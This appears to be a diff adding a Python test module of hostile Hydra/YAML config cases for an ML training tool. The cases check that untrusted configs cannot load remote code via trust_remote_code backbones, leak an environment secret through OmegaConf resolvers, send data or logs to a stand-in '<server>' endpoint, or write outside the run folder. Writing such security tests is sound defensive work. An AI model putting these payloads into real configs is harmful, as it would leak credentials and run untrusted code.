@@ -1,0 +1,271 @@
+"""What files of others must never do: run a model's own code, send what they read, or choose who
+receives results.
+
+`<server>` stands for the host and port of a server that counts who calls it. `<bait>` and
+`<outside>` are folders as in `targets`. The environment holds a secret, `FLATOUT_HOSTILE`.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from typing import Any
+
+import yaml
+
+from tests.hostile.targets import Case
+
+SECRET = "sk-live-topsecret"
+ENVIRONMENT = {
+    "FLATOUT_HOSTILE": SECRET,
+    "AWS_ACCESS_KEY_ID": "AKIAVICTIM",
+    "AWS_SECRET_ACCESS_KEY": SECRET,
+    "AWS_EC2_METADATA_DISABLED": "true",
+}
+OF_ENVIRONMENT = "${oc.env:FLATOUT_HOSTILE}"
+_ASKED = "endpoint_override=<server>&scheme=http&region=us-east-1"
+ADDRESSES = {
+    "an endpoint": f"s3://bucket/key?{_ASKED}",
+    "an endpoint and a secret": f"s3://bucket/{OF_ENVIRONMENT}?{_ASKED}",
+    "an endpoint in capitals": f"S3://bucket/key?{_ASKED}",
+    "an encoded endpoint": "s3://bucket/key?endpoint%5Foverride=127.0.0.1%3A9&scheme=http",
+    "credentials": "s3://AKIA:secret@bucket/key",
+    "a blank before it": f" s3://bucket/key?{_ASKED}",
+    "gs": "gs://anonymous@bucket/key?endpoint_override=<server>&scheme=http",
+    "gcs": "gcs://bucket/key?endpoint_override=<server>",
+    "abfs": "abfs://container@account/key?blob_storage_authority=<server>",
+    "abfss": "abfss://account:key@container/key?dfs_storage_authority=<server>",
+    "hdfs": "hdfs://<server>/key",
+    "viewfs": "viewfs://<server>/key",
+    "hf": "hf://datasets/somebody/rows/train.csv",
+    "fsspec": "fsspec+http://<server>/key.csv",
+    "http": "http://<server>/key.csv",
+    "chained": "simplecache::http://<server>/key.csv",
+    "a local file": "file:///etc/hostname",
+    "a file with a host": "file://<server>/share/key.csv",
+    "a file with one slash": "file:/etc/hostname",
+    "UNC by slashes": "smb://<server>/share/key.csv",
+}
+"""Addresses that a file could name as its source."""
+
+READING = {
+    "the environment": OF_ENVIRONMENT,
+    "a default": "${oc.env:NOWHERE,${oc.env:FLATOUT_HOSTILE}}",
+    "oc.decode": "${oc.decode:${oc.env:FLATOUT_HOSTILE}}",
+    "oc.decode of an escape": "${oc.decode:'\\${oc.env:FLATOUT_HOSTILE}'}",
+    "oc.create": "${oc.create:${oc.env:FLATOUT_HOSTILE}}",
+    "oc.select": "${oc.select:nowhere,${oc.env:FLATOUT_HOSTILE}}",
+    "oc.dict.values": "${oc.dict.values:data}",
+    "a resolver's name by reference": "${oc.${trainer.x}:FLATOUT_HOSTILE}",
+    "blanks": "${ oc.env : FLATOUT_HOSTILE }",
+    "what was typed": "${hydra:overrides.task}",
+    "a reference inside a reference": "${data.${trainer.x}}",
+    "the middle of a text": f"run-{OF_ENVIRONMENT}-x",
+}
+"""Ways to read a secret into a value."""
+
+REFERRING = {
+    "by its key": "${data.encoding.secret}",
+    "by brackets": "${data[encoding][secret]}",
+    "by brackets and points": "${data[encoding].secret}",
+    "by a mapping above it": "${data.encoding}",
+    "with blanks": "${ data.encoding.secret }",
+    "beside text": "x-${data.encoding.secret}",
+}
+"""Ways to copy a secret that was typed."""
+
+
+def sending_cases() -> list[Case]:
+    """Every case."""
+    return [
+        *_of_code(),
+        *_of_addresses(),
+        *_of_secrets(),
+        *_of_receivers(),
+        *_of_sweeps(),
+        *_of_folders(),
+    ]
+
+
+def _file(name: str, settings: Any, *words: str, is_whole: bool = False) -> Case:
+    text = "# @package _global_\n" + (
+        settings if isinstance(settings, str) else yaml.safe_dump(settings)
+    )
+    return Case(
+        name,
+        ("+experiment=evil", *words),
+        {"experiment/evil.yaml": text},
+        ENVIRONMENT,
+        is_whole=is_whole,
+    )
+
+
+def backbone(folder: str, **more: Any) -> dict[str, Any]:
+    """A layer of transformers that loads the network of a folder by a config, which
+    here is none.
+    """
+    settings = {"use_timm_backbone": False, "use_pretrained_backbone": True, "backbone": folder}
+    trust = {"backbone_kwargs": {"trust_remote_code": True}}
+    config = {"_target_": "torch.nn.ParameterDict", "parameters": {**settings, **trust, **more}}
+    return {"_target_": "transformers.models.detr.modeling_detr.DetrConvEncoder", "config": config}
+
+
+def _of_code() -> Iterator[Case]:
+    asking: dict[str, Any] = {"auto_map": {"AutoBackbone": "<bait>/backbone--evil.EvilBackbone"}}
+    asking |= {"_name_or_path": "<bait>/backbone", "name_or_path": "<bait>/backbone"}
+    nothing: dict[str, Any] = {}
+    for folder, more in (
+        ("<bait>/remote", nothing),
+        ("<bait>/backbone", nothing),
+        ("asked for", asking),
+    ):
+        call = backbone(folder, **more)
+        yield _file(f"code of {folder} by a layer", {"callbacks": {"x": call}})
+        inner = {"_target_": "torch.nn.Sequential", "_args_": [call]}
+        yield _file(f"code of {folder} by a layer in a layer", {"callbacks": {"x": inner}})
+    call = backbone("<bait>/remote") | {"_recursive_": False}
+    yield _file("code by a layer that is not recursive", {"callbacks": {"x": call}})
+    call = backbone("<bait>/remote") | {"_target_": "transformers.DetrForObjectDetection"}
+    yield _file("code by a model at a door", {"callbacks": {"x": call}})
+    for name in (
+        "auto.modeling_auto.AutoModel",
+        "auto.modeling_auto.AutoBackbone",
+        "bert.modeling_bert.BertModel",
+    ):
+        settings = {"_target_": f"transformers.models.{name}", "_args_": ["<bait>/remote"]}
+        yield _file(f"code by {name}", {"callbacks": {"x": settings}})
+    shared = (
+        "callbacks:\n  x: &x {_target_: transformers.models.detr.modeling_detr.DetrConvEncoder,"
+        " config: {}}\n"
+    )
+    yield _file("code by an anchor", f"{shared}  y: *x\n")
+
+
+def _of_addresses() -> Iterator[Case]:
+    for name, address in ADDRESSES.items():
+        yield _file(f"data.source by {name}", {"data": {"source": address}})
+    first = ADDRESSES["an endpoint"]
+    for key in ("train", "validation", "test", "tokenizer", "cache"):
+        yield _file(f"data.{key} by an endpoint", {"data": {key: first}})
+    yield _file("a list of sources", {"data": {"source": ["rows.csv", first]}})
+    yield _file(
+        "an address in two parts",
+        {"name": "s3:", "data": {"source": "${name}//bucket/${oc.env:HOME}"}},
+    )
+    pretrained = (
+        "defaults: [override /model: transformer]\nmodel: {pretrained: 'https://<server>/model'}\n"
+    )
+    yield _file("a network by an address", pretrained)
+    files = {"data/evil.yaml": f"defaults: [text]\nsource: {json.dumps(first)}\n"}
+    yield Case("an option of data", ("data=evil",), files, ENVIRONMENT)
+    logger = {
+        "_target_": "lightning.pytorch.loggers.TensorBoardLogger",
+        "save_dir": "s3://bucket/x",
+    }
+    yield _file("a logger's folder", {"trainer": {"logger": [logger]}})
+    callback = {
+        "_target_": "lightning.pytorch.callbacks.ModelCheckpoint",
+        "dirpath": "http://<server>/x",
+    }
+    yield _file("a checkpoint's folder", {"callbacks": {"x": callback}})
+
+
+def _of_secrets() -> Iterator[Case]:
+    for name, text in READING.items():
+        yield _file(f"a name of {name}", {"name": text, "trainer": {"x": "env"}})
+    for key in (
+        "data.source",
+        "data.tokenizer",
+        "logger.csv.folder",
+        "checkpoint.metric",
+        "resume",
+    ):
+        settings: Any = OF_ENVIRONMENT
+        for part in reversed(key.split(".")):
+            settings = {part: settings}
+        yield _file(f"{key} of the environment", settings)
+    yield _file("a Hub name of the environment", {"data": {"source": f"somebody/{OF_ENVIRONMENT}"}})
+    yield _file("callbacks of the environment", {"callbacks": OF_ENVIRONMENT})
+    yield _file("a list of the environment", {"trainer": {"x": [1, [OF_ENVIRONMENT]]}})
+    secret = "data.encoding.secret='${oc.env:FLATOUT_HOSTILE}'"
+    for name, text in REFERRING.items():
+        yield _file(f"a typed secret {name}", {"name": text}, "data=bits", secret)
+    relative = "defaults: [override /data: bits]\ndata: {source: 'somebody/${.encoding.secret}'}\n"
+    yield _file("a typed secret from beside it", relative, secret)
+    yield _file("the same words as were typed", {"name": OF_ENVIRONMENT}, "data=bits", secret)
+    typed = "+trainer.x='${oc.env:FLATOUT_HOSTILE}'"
+    yield _file("another typed value of the environment", {"name": "${trainer.x}"}, typed)
+
+
+def _of_receivers() -> Iterator[Case]:
+    receivers = (
+        "http://<server>",
+        "databricks",
+        "sqlite:////<outside>/x.db",
+        "file:<outside>",
+        "<outside>",
+        "${name}",
+        OF_ENVIRONMENT,
+    )
+    for uri in receivers:
+        text = (
+            "defaults: [override /logger: mlflow]\nlogger: {mlflow: {tracking_uri:"
+            f" {json.dumps(uri)}}}}}\n"
+        )
+        yield _file(f"MLflow at {uri}", text, "name=x")
+    entity = "defaults: [override /logger: wandb]\nlogger: {wandb: {entity: somebody}}\n"
+    yield _file("an entity of W&B", entity)
+    files = {
+        "logger/evil.yaml": (
+            "# @package logger.mlflow\n_target_: flatout.callbacks.loggers.MLflowConfig\n"
+        )
+    }
+    files["logger/evil.yaml"] += "tracking_uri: http://<server>\n"
+    yield Case("an option of logger", ("logger=[evil]",), files, ENVIRONMENT)
+    for name in ("MLFlowLogger", "WandbLogger", "CometLogger", "NeptuneLogger", "LitLogger"):
+        settings = {
+            "_target_": f"lightning.pytorch.loggers.{name}",
+            "host": "<server>",
+            "base_url": "<server>",
+        }
+        yield _file(f"Lightning's {name}", {"trainer": {"logger": settings}})
+
+
+def _of_sweeps() -> Iterator[Case]:
+    searched: dict[str, dict[str, str]] = {
+        "an address": {"data.source": "s3://bucket/x?endpoint_override=<server>"},
+        "an escaped address": {"data.source": "s3\\://bucket/x?endpoint_override=<server>"},
+        "a secret": {"name": "'${oc.env:FLATOUT_HOSTILE}',b"},
+        "a reference": {"data.source": "'${name}//bucket','${name}'"},
+        "trust": {"allow_targets": "[evil]", "+callbacks.x._target_": "evil.Evil"},
+        "trust with a plus sign": {
+            "+allow_targets": "[evil]",
+            "+callbacks.x._target_": "evil.Evil,evil.call",
+        },
+        "MLflow": {"logger": "mlflow", "logger.mlflow.tracking_uri": "databricks"},
+        "W&B": {"logger": "wandb", "logger.wandb.entity": "somebody,others"},
+    }
+    for name, params in searched.items():
+        settings = {"hydra": {"mode": "MULTIRUN", "sweeper": {"params": params}}}
+        yield _file(f"a sweep in a file of {name}", settings, is_whole=True)
+        space = {
+            key: value if "(" in value else f"choice({value})" for key, value in params.items()
+        }
+        text = yaml.safe_dump({"hydra": {"mode": "MULTIRUN", "sweeper": {"space": space}}})
+        head = "defaults: [override /hydra/sweeper: flatout]\n"
+        yield _file(f"a search in a file of {name}", head + text, is_whole=True)
+    for key in ("run.dir", "sweep.dir", "job.name"):
+        group, name = key.split(".")
+        settings = {"hydra": {group: {name: "${output}/" + OF_ENVIRONMENT}}}
+        yield _file(f"hydra.{key} of the environment", settings, is_whole=True)
+
+
+def _of_folders() -> Iterator[Case]:
+    for folder in ("<outside>", "../../outside/x", "~/x", "file:<outside>"):
+        target = "flatout.callbacks.profile_steps.ProfileSteps"
+        yield _file(
+            f"a profile in {folder}", {"callbacks": {"p": {"_target_": target, "folder": folder}}}
+        )
+    target = "flatout.callbacks.profile_steps.ProfileSteps"
+    settings = {"_target_": target, "folder": "${output}/../../outside"}
+    yield _file("a profile above the folder of runs", {"callbacks": {"p": settings}})
